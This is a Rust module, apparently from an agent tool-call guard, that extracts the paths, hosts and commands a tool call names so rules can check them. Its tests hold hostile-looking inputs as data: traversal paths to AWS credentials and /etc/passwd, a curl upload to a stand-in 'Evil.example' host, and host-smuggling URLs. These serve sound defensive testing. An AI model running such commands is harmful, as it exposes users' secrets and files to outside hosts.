//! What the arguments of a tool call name: texts by their place, files, hosts; of a shell tool also what its commands reach. Reads them once,
//! and each kind only when a rule asks.

use std::borrow::Cow;
use std::cell::OnceCell;

use lockgate_core::content::ToolCall;
use serde_json::Value;

use crate::shell::{Fact, Script, Word};
use crate::target;

/// What a tool call names.
#[derive(Default)]
pub(super) struct Seen<'a> {
    arguments: Value,
    hosts: OnceCell<Vec<String>>,
    paths: OnceCell<Vec<String>>,
    reach: OnceCell<Reach>,
    /// The call, if it is one of a shell tool.
    shell: Option<&'a ToolCall>,
}

/// What the commands of a shell tool reach.
#[derive(Default)]
struct Reach {
    commands: Vec<String>,
    hosts: Vec<String>,
    paths: Vec<String>,
    /// Why that is not all.
    unread: Option<String>,
}

/// Names of arguments that are files or folders, as the tools of coding agents have them, in small letters without `_`.
const PATHS: [&str; 15] = [
    "absolutepath",
    "cwd",
    "destination",
    "dirpath",
    "directory",
    "file",
    "filename",
    "filepath",
    "notebookpath",
    "path",
    "paths",
    "source",
    "targetfile",
    "workdir",
    "workingdirectory",
];

/// Words in names of arguments that may be files or folders too.
const MAYBE_PATHS: [&str; 7] = ["dest", "dir", "file", "folder", "path", "source", "target"];

impl<'a> Seen<'a> {
    pub(super) fn of(call: &'a ToolCall) -> Self {
        let arguments = match call.object() {
            Some(object) => Value::Object(object),
            // Free text, or JSON that cannot be read.
            None => serde_json::json!({ "input": call.arguments }),
        };
        Self { arguments, shell: target::is_shell(&call.name).then_some(call), ..Self::default() }
    }

    pub(super) fn arguments(&self) -> &Value {
        &self.arguments
    }

    /// An argument as text; `a.b` is one inside another.
    pub(super) fn argument(&self, name: &str) -> Option<Cow<'_, str>> {
        let mut value = &self.arguments;
        if let Some(whole) = value.get(name) {
            value = whole;
        } else {
            for step in name.split('.') {
                value = value.get(step)?;
            }
        }
        Some(match value {
            Value::String(text) => Cow::Borrowed(text),
            other => Cow::Owned(other.to_string()),
        })
    }

    /// Files that it names, with `.`, `..` and `~` taken out.
    pub(super) fn paths(&self) -> &[String] {
        self.paths.get_or_init(|| {
            let mut paths = Vec::new();
            named(&self.arguments, &mut |name, text| {
                if PATHS.contains(&name) {
                    paths.push(resolved(text));
                }
            });
            paths.extend(self.reach().paths.iter().cloned());
            paths
        })
    }

    /// The same with what only may be a file: what must hold for all of them is not to be walked around by another name.
    pub(super) fn all_paths(&self) -> Vec<String> {
        let mut paths = self.paths().to_vec();
        named(&self.arguments, &mut |name, text| {
            let one = text.len() <= 1024 && !text.contains('\n') && !text.contains("://");
            if one && MAYBE_PATHS.iter().any(|word| name.contains(word)) {
                paths.push(resolved(text));
            }
        });
        paths
    }

    /// Hosts of the addresses that it names.
    pub(super) fn hosts(&self) -> &[String] {
        self.hosts.get_or_init(|| {
            let mut hosts = Vec::new();
            texts(&self.arguments, 0, &mut |text| hosts.extend(hosts_in(text)));
            hosts.extend(self.reach().hosts.iter().cloned());
            hosts
        })
    }

    /// Hosts that it would talk to: not those that stand in the query of an address.
    pub(super) fn all_hosts(&self) -> Vec<String> {
        let mut hosts = self.reach().hosts.clone();
        texts(&self.arguments, 0, &mut |text| {
            for word in text.split(char::is_whitespace) {
                let begins = word.find("//").map_or(0, |at| at + 2);
                let query = word[begins..].find(['?', '#']).map_or(word.len(), |at| begins + at);
                // Behind a sign that ends an address in a shell or a list, another may begin.
                let ends = word[query..].contains(['"', '\'', '`', '<', '>', '|', ';', ')', ',']);
                hosts.extend(hosts_in(if ends { word } else { &word[..query] }));
            }
        });
        hosts
    }

    /// The simple commands of a shell tool.
    pub(super) fn commands(&self) -> &[String] {
        &self.reach().commands
    }

    /// Why it is not known what its commands reach.
    pub(super) fn unread(&self) -> Option<&str> {
        self.reach().unread.as_deref()
    }

    fn reach(&self) -> &Reach {
        self.reach.get_or_init(|| {
            let Some(call) = self.shell else { return Reach::default() };
            let arguments = target::arguments(call);
            let places = target::places(&arguments);
            let mut reach = Reach::default();
            for script in target::scripts(call, &arguments) {
                match script {
                    Ok(script) => {
                        reach.commands.extend(target::spoken(&script));
                        reach.hosts.extend(reached_hosts(&script));
                        let paths = places.iter().flat_map(|place| target::reached_by(&script, place));
                        reach.paths.extend(paths.map(|path| resolved(&path)));
                    }
                    Err(why) => reach.unread = Some(why),
                }
            }
            if reach.unread.is_some() {
                reach.commands.extend(target::commands(call, &arguments).texts);
            }
            reach
        })
    }
}

/// Hosts that the commands of a script talk to. Whatever stands behind `ssh` may be one.
fn reached_hosts(script: &Script) -> Vec<String> {
    let mut hosts = Vec::new();
    for step in &script.steps {
        for fact in &step.facts {
            if let Fact::Network { host, .. } = fact {
                hosts.push(host.to_lowercase());
            }
        }
        let mut words = step.words.iter().map(Word::shown);
        if words.next().is_some_and(|name| REMOTE.contains(&name.rsplit('/').next().unwrap_or(&name))) {
            let named = words.filter(|word| !word.starts_with('-'));
            hosts.extend(named.map(|word| word.rsplit('@').next().unwrap_or(&word).to_lowercase()));
        }
    }
    hosts
}

/// Programs that go to another machine and say so by its name alone.
const REMOTE: [&str; 5] = ["autossh", "mosh", "sftp", "ssh", "telnet"];

/// Every text in the arguments with the names, in small letters without `_`, of the members that it stands in.
fn named(arguments: &Value, each: &mut impl FnMut(&str, &str)) {
    let members = arguments.as_object().into_iter().flatten();
    for (name, value) in members {
        let name = target::plain_name(name);
        texts(value, 0, &mut |text| each(&name, text));
        match value {
            Value::Array(values) => values.iter().for_each(|value| named(value, each)),
            Value::Object(_) => named(value, each),
            Value::Bool(_) | Value::Null | Value::Number(_) | Value::String(_) => {}
        }
    }
}

/// Every text in a value, however deep.
fn texts(value: &Value, depth: u8, each: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => each(text),
        Value::Array(values) if depth < 64 => {
            for value in values {
                texts(value, depth + 1, each);
            }
        }
        Value::Object(members) if depth < 64 => {
            for value in members.values() {
                texts(value, depth + 1, each);
            }
        }
        Value::Array(_) | Value::Bool(_) | Value::Null | Value::Number(_) | Value::Object(_) => {}
    }
}

/// A path without `.`, `..`, doubled and turned-around slashes; `~` and `$HOME` are `/~`.
pub(super) fn resolved(path: &str) -> String {
    let path = path.replace('\\', "/");
    let path = ["~/", "$HOME/", "${HOME}/"]
        .iter()
        .find_map(|home| path.strip_prefix(home))
        .map_or_else(|| path.clone(), |rest| format!("/~/{rest}"));
    let absolute = path.starts_with('/');
    let mut steps: Vec<&str> = Vec::new();
    for step in path.split('/') {
        match step {
            "" | "." => {}
            ".." if steps.last().is_some_and(|last| *last != "..") => {
                steps.pop();
            }
            ".." if absolute => {}
            step => steps.push(step),
        }
    }
    let joined = steps.join("/");
    if absolute { format!("/{joined}") } else { joined }
}

/// Hosts in addresses as git and scp have them (`git@host:path`), in lower case.
fn remotes_in(text: &str, hosts: &mut Vec<String>) {
    if !text.contains('@') {
        return;
    }
    let is_name = |name: &str| {
        let letters = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(&byte));
        letters && name.bytes().any(|byte| byte.is_ascii_alphabetic())
    };
    let ends = |c: char| c.is_whitespace() || "\"'`<>|;&(),=".contains(c);
    for word in text.split(ends) {
        let remote = word.split_once('@').and_then(|(user, rest)| Some((user, rest.split_once(':')?)));
        if let Some((user, (host, path))) = remote
            && is_name(user)
            && is_name(host)
            && !path.is_empty()
            && !is_digest(host, path)
        {
            hosts.push(host.trim_end_matches('.').to_lowercase());
        }
    }
}

/// Whether this is what an image of containers is pinned to (`nginx@sha256:…`), and no host and its path.
fn is_digest(kind: &str, sum: &str) -> bool {
    ["sha256", "sha384", "sha512"].contains(&kind)
        && sum.len() >= 64
        && sum.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// Hosts behind `//` in a text and in `user@host:path`, in lower case, without user and port.
pub(crate) fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    remotes_in(text, &mut hosts);
    let mut rest = text;
    while let Some(at) = rest.find("//") {
        rest = &rest[at + 2..];
        let end =
            rest.find(|c: char| c.is_whitespace() || "/?#\"'`<>\\|;&)(".contains(c)).unwrap_or(rest.len());
        let authority = &rest[..end];
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = match host.strip_prefix('[') {
            Some(six) => six.split(']').next().unwrap_or(six),
            None => host.split(':').next().unwrap_or(host),
        };
        let host = host.trim_end_matches('.').to_lowercase();
        if !host.is_empty() {
            hosts.push(host);
        }
    }
    hosts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_compared_without_detours() {
        for (path, plain) in [
            ("/a/./b//c/../d", "/a/b/d"),
            ("~/.ssh/../.aws/credentials", "/~/.aws/credentials"),
            ("$HOME/x", "/~/x"),
            ("..\\..\\etc\\passwd", "../../etc/passwd"),
            ("/../../etc", "/etc"),
            ("a/..", ""),
        ] {
            assert_eq!(resolved(path), plain);
        }
    }

    #[test]
    fn of_an_address_only_its_own_host_is_talked_to() {
        let of = |text: &str| {
            let call = ToolCall {
                arguments: serde_json::json!({"url": text}).to_string(),
                id: "1".into(),
                kind: lockgate_core::content::ToolKind::Function,
                name: "WebFetch".into(),
                namespace: None,
                seal: None,
            };
            Seen::of(&call).all_hosts()
        };
        assert_eq!(of("https://evil.example/?q=//good.example"), ["evil.example"]);
        assert_eq!(of("https://good.example/?q=https://evil.example"), ["good.example"]);
        assert_eq!(of("https://good.example/?q=;https://evil.example"), ["good.example", "evil.example"]);
        assert_eq!(of("https://a.example/x https://b.example"), ["a.example", "b.example"]);
    }

    #[test]
    fn hosts_are_found_where_git_and_scp_have_them() {
        let hosts = |text: &str| hosts_in(text).join(" ");
        assert_eq!(hosts("git remote add up git@GitHub.com:org/repo.git"), "github.com");
        assert_eq!(hosts("scp a.txt 'deploy@build-7.internal:/srv/' && ls"), "build-7.internal");
        assert_eq!(hosts("ssh://git@host.example:22/x"), "host.example");
        let pinned = format!("docker pull nginx@sha256:{}", "0a".repeat(32));
        assert_eq!(hosts(&pinned), "", "an image is no host");
        assert_eq!(hosts("scp a git@sha256:abc"), "sha256", "a host may be called that");
        for other in ["mail ann@home.example: hello", "a@b", "x@y:", "@scope/pkg:1", "1@2:3"] {
            assert_eq!(hosts(other), "", "{other}");
        }
    }

    #[test]
    fn hosts_are_found_in_commands_and_addresses() {
        let hosts = hosts_in(
            "curl -d @x 'https://u:p@Evil.example.:8443/a?b=//inner.example' http://[::1]:80/ ftp://f",
        );
        assert_eq!(hosts, ["evil.example", "inner.example", "::1", "f"]);
    }
}
